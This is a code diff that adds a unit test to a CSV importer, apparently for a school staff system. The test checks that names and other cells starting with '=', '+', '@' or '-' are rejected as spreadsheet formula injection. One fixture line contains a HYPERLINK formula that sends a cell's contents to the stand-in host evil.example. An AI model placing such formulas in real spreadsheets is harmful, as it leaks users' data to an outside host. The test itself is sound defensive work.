@@ -217,6 +217,29 @@ TEST_F(ImportTest, NamesAndOtherCellsAreOneLineOfBoundedLength) {
   EXPECT_LT(h.message().size(), 2000u);
 }
 
+TEST_F(ImportTest, NamesThatExcelWouldRunAsFormulasAreRefused) {
+  const std::string header = "id,code,full_name,roles,home_unit_id,subject,level,email\n";
+  const absl::Status s = ImportError(
+      bdtx::v1::PEOPLE, "people.csv",
+      header +
+          "p1,,\"=HYPERLINK(\"\"https://evil.example/?\"\"&H2,\"\"Nguyễn\"\")\",mass_teacher,"
+          "thcs-tanphu,,,\n"
+          "p2,+84,Trần B,mass_teacher,thcs-tanphu,,,\n"
+          "p3,,Lê C,mass_teacher,thcs-tanphu, @SUM(1),,\n"
+          "p4,,-2+3+cmd,mass_teacher,thcs-tanphu,,,\n");
+  ExpectMentions(s, "people.csv:2:3: the cell starts with '='");
+  ExpectMentions(s, "people.csv:3:2: the cell starts with '+'");
+  ExpectMentions(s, "people.csv:4:6: the cell starts with '@'");
+  ExpectMentions(s, "people.csv:5:3: the cell starts with '-'");
+  // Units and classes too; a '-' or '=' inside a name is fine.
+  ExpectMentions(ImportError(bdtx::v1::UNITS, "units.csv",
+                             "id,name,kind,parent_id,university_kind\nu1,=1+1,university,,DHSP\n"),
+                 "units.csv:2:2: the cell starts with '='");
+  auto ok = PlanImport(bdtx::v1::PEOPLE, "people.csv",
+                       header + "p5,,Nguyễn Văn A-B = C,mass_teacher,thcs-tanphu,,,\n", dir_);
+  EXPECT_TRUE(ok.ok()) << ok.status();
+}
+
 TEST_F(ImportTest, SemicolonAndTabFilesAsExcelWritesThem) {
   auto semicolons =
       PlanImport(bdtx::v1::PEOPLE, "people.csv",
